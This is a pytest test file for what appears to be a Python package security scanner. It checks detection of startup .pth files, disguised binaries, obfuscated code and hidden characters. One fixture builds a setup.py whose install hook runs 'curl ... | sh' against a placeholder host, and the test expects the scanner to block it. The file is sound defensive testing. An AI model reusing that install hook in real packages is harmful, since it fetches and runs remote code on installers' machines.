"""Files that run by themselves, cannot be read, or hide what they are."""

from __future__ import annotations

import pytest

from affineur.core.findings import Severity
from affineur.core.scans import Capability, Role
from support.dists import sdist
from support.scanning import Scan, signals_of

REVIEW, INFO = Severity.REVIEW, Severity.INFO
ELF = b"\x7fELF\x02\x01\x01" + bytes(64)
PYC = b"\xa7\r\r\n" + bytes(32)
NAMESPACE = (
    "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join("
    "sys._getframe(1).f_locals['sitedir'], *('spam',))"
)


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        ({"zz.pth": "import spam.start\n"}, [("startup-code", REVIEW, 1)]),
        ({"sitecustomize.py": "x = 1\n"}, [("startup-code", REVIEW, 1)]),
        ({"spam/a.pyc": PYC}, [("bytecode-without-source", REVIEW, None)]),
        ({"spam/logo.png": ELF}, [("disguised-binary", REVIEW, None)]),
        ({"spam/tool": ELF}, [("binary-in-pure-wheel", REVIEW, None)]),
        ({"spam/cli-64.exe": b"MZ" + bytes(64)}, [("binary-in-pure-wheel", INFO, None)]),
        (
            {"spam/a.py": "x = 1\nfrom pyarmor_runtime_0 import __pyarmor__\n"},
            [("obfuscated-code", REVIEW, 2)],
        ),
        (
            {"spam/a.py": f"V = 1;{' ' * 200}import os\n"},
            [("hidden-statement", REVIEW, 1)],
        ),
        (
            {"spam/a.py": "# if ok:\u202e \u2066x\n"},
            [("hidden-characters", REVIEW, 1)],
        ),
    ],
)
def test_what_cannot_be_read_or_runs_by_itself_is_found(
    scan: Scan,
    files: dict[str, str | bytes],
    expected: list[tuple[str, Severity, int | None]],
) -> None:
    assert signals_of(scan(files)) == expected


@pytest.mark.parametrize(
    "files",
    [
        {"spam.pth": "/somewhere\n"},
        {"spam-nspkg.pth": NAMESPACE},
        {"spam/weights.pth": "import spam\n"},
        {"spam/a.py": "x = 1\n", "spam/__pycache__/a.cpython-311.pyc": PYC},
        {"spam/a.py": f"TABLE = '''\na{' ' * 200}b\n'''\n"},
        {"spam/a.py": "GREETING = '\u05e9\u05dc\u05d5\u05dd'\n"},
    ],
)
def test_honest_files_are_not_flagged(scan: Scan, files: dict[str, str | bytes]) -> None:
    assert signals_of(scan(files)) == []


def test_what_runs_when_an_sdist_is_built_blocks_what_a_wheel_would_have_reviewed(
    read: Scan,
) -> None:
    setup = (
        "from setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "import os\n\n\n"
        "class Install(install):\n"
        "    def run(self):\n"
        "        os.system('curl -s https://a.example/i.sh | sh')\n\n\n"
        "setup(cmdclass={'install': Install})\n"
    )
    made = sdist("spam", "1.0", files={"setup.py": setup.encode()})

    scan = read(made.filename, made.data).scan  # type: ignore[call-arg,arg-type]  # of conftest

    assert [(one.rule, one.severity, one.role, one.where.line) for one in scan.signals] == [
        ("download-and-run", Severity.BLOCK, Role.INSTALL, 8)
    ]


def test_what_code_can_do_is_told_with_its_first_places(scan: Scan) -> None:
    source = "import os\n\n# os.system('x')\n\n\ndef f():\n    os.system('make')\n"

    report = scan({"spam/__init__.py": source, "spam/tests/test_a.py": "eval(x)\n"})

    assert {
        what: [(one.file, one.line) for one in places]
        for what, places in report.scan.capabilities.items()
    } == {Capability.STARTS_PROCESSES: [("spam/__init__.py", 7)]}


def test_an_import_by_a_written_name_runs_no_text(scan: Scan) -> None:
    named = {"spam/__init__.py": "a = __import__('os')\n"}
    computed = {"spam/__init__.py": "a = __import__(name)\n"}

    assert scan(named).scan.capabilities == {}
    assert [*scan(computed).scan.capabilities] == [Capability.RUNS_TEXT_AS_CODE]


@pytest.mark.parametrize(
    ("source", "reason"),
    [
        ("x = " + "(" * 3000 + ")" * 3000 + "\nexec(chr(1))\n", "it is no valid Python"),
        ("x = 1\0\nexec(chr(1))\n", "it is no valid Python"),
        ("exec(chr(1))\n" + "x = 1\n" * 200_000, "it is too large to be parsed"),
        ("exec(chr(1) +" + "-" * 20_000 + "1)\n", "it could not be parsed"),
    ],
)
def test_hostile_files_are_told_as_unread(scan: Scan, source: str, reason: str) -> None:
    report = scan({"spam/__init__.py": source, "spam/a.py": "x = 1\n"})

    assert report.scan.unread == (("spam/__init__.py", reason),)


def test_a_short_text_cannot_grow_without_bounds(scan: Scan) -> None:
    source = "a = 'x' * 1000\n" + "a = a + a + a\n" * 60 + "exec(chr(1) + a * 9999999)\n"

    assert scan({"spam/__init__.py": source}).scan.unread == ()
